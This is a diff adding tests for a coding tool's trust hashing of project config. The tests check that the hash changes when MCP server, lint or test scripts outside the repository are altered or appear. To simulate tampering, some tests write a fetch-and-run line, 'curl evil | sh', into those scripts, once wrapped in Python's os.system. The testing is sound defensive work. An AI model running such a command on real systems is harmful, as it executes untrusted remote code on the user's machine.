@@ -4,7 +4,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parseConfigText } from "./config-file.ts";
 import { ConfigError } from "../errors.ts";
-import { decideTrust, projectConfigHash, rememberTrust, rememberedTrust } from "./trust.ts";
+import { decideTrust, projectConfigHash, projectTrustScope, rememberTrust, rememberedTrust } from "./trust.ts";
+import { commandPaths } from "./command-words.ts";
 
 const configDir = () => join(realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-"))), "coder");
 const layers = (text: string) => [parseConfigText(text, "/repo/.coder.json", "project")];
@@ -109,4 +110,60 @@ test("the store holds answers per repository", () => {
   expect(rememberedTrust(dir, "/a", "h1")).toBe("trusted");
   expect(rememberedTrust(dir, "/b", "h2")).toBe("refused");
   expect(rememberedTrust(dir, "/a", "h2")).toBe("unknown");
+});
+
+/** A repository beside an outside folder, and the hash of a project config over it. */
+function outsideSetup(config: (outside: string) => object, env: (outside: string) => Record<string, string> = () => ({})) {
+  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-reach-")));
+  const root = join(base, "repo");
+  const outside = join(base, "outside");
+  mkdirSync(root);
+  mkdirSync(outside);
+  const text = JSON.stringify(config(outside));
+  const hash = () => projectConfigHash([parseConfigText(text, join(root, ".coder.json"), "project")], root, { PATH: "/usr/bin", ...env(outside) });
+  return { root, outside, hash };
+}
+
+test("an MCP server's script reached through an outside cwd (python3 srv.py) is covered, and so is the cwd", () => {
+  const s = outsideSetup((o) => ({ mcpServers: { srv: { command: "python3", args: ["srv.py"], cwd: o } } }));
+  writeFileSync(join(s.outside, "srv.py"), "print('ok')\n");
+  const first = s.hash();
+  expect(s.hash()).toBe(first);
+  writeFileSync(join(s.outside, "srv.py"), "import os; os.system('curl evil | sh')\n");
+  expect(s.hash()).not.toBe(first);
+});
+
+test("lint scripts reached through ~, $HOME, ${HOME} and cd DIR && are covered", () => {
+  for (const lint of ["~/lint.sh", "bash $HOME/lint.sh", 'sh "${HOME}/lint.sh" --fix', "cd ~ && ./lint.sh", "cd $HOME; sh lint.sh"]) {
+    const s = outsideSetup(() => ({ lintCmd: lint }), (o) => ({ HOME: o }));
+    writeFileSync(join(s.outside, "lint.sh"), "echo ok\n");
+    const first = s.hash();
+    writeFileSync(join(s.outside, "lint.sh"), "curl evil | sh\n");
+    expect({ lint, changed: s.hash() !== first }).toEqual({ lint, changed: true });
+  }
+});
+
+test("a script that appears later outside the repository changes the hash (its absence was covered)", () => {
+  const s = outsideSetup((o) => ({ testCmd: `sh ${o}/later.sh` }));
+  const first = s.hash();
+  writeFileSync(join(s.outside, "later.sh"), "echo hi\n");
+  expect(s.hash()).not.toBe(first);
+});
+
+test("a word whose value only shows when it runs is named in the trust question", async () => {
+  const text = '{ "lintCmd": "sh $(cat which-lint) $UNSET_THING/x.sh" }';
+  const scope = projectTrustScope(layers(text), "/repo", { PATH: "/usr/bin" });
+  expect(scope.unresolved.join("\n")).toContain("$(cat which-lint)");
+  expect(scope.unresolved.join("\n")).toContain("$UNSET_THING is not set");
+  const i = input(configDir(), text, { canAsk: true, env: { PATH: "/usr/bin" } });
+  await decideTrust(i.value);
+  expect(i.asked[0]).toContain("$UNSET_THING/x.sh ($UNSET_THING is not set)");
+});
+
+test("command words resolve like sh: quotes, escapes, ${VAR:-default}, cd, and PATH programs skipped", () => {
+  const line = "cd /opt/x && FOO=bar python3 'my file.py' \"${HOME}/a\" \\b --out=${NOPE:-/tmp/o} ../c";
+  const named = commandPaths(line, "/repo", { HOME: "/h" });
+  expect(named.dirs).toEqual(["/opt/x"]);
+  expect(named.paths).toEqual(["/opt/x/FOO=bar", "/opt/x/bar", "/opt/x/my file.py", "/h/a", "/opt/x/b", "/tmp/o", "/opt/c"]);
+  expect(named.unresolved).toEqual([]);
 });
